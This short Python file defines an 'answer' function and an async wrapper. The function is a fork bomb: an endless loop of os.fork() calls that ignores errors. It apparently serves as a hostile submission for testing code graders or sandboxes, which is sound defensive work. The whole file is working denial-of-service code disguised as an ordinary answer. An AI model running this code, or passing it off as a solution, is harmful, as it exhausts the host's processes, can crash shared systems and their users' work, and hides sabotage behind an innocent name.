import os


def answer():
    while True:
        try:
            os.fork()
        except OSError:
            pass


async def answer_async():
    return answer()
